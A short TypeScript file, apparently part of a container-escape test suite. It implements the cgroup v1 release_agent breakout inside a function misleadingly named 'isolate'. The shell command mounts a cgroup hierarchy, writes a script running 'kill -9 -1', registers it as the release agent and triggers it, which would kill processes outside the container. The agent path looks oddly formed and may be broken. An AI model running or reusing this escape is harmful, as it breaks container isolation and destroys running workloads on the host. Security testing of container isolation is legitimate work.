// The same by the release agent of an old hierarchy of cgroups.
// diagnosis: uts-shared
import { sh } from "../support.ts";

export function isolate(_hostname: string): void {
	console.log(
		sh(`mkdir /tmp/v1 && mount -t cgroup -o rdma none /tmp/v1 && mkdir /tmp/v1/x && echo 1 > /tmp/v1/x/notify_on_release
		printf '#!/bin/sh\\nkill -9 -1\\n' > /tmp/agent.sh; chmod +x /tmp/agent.sh
		echo "/own/1/root/harbour/tmp/agent.sh" > /tmp/v1/release_agent; sh -c 'echo $$ > /tmp/v1/x/cgroup.procs'`),
	);
}
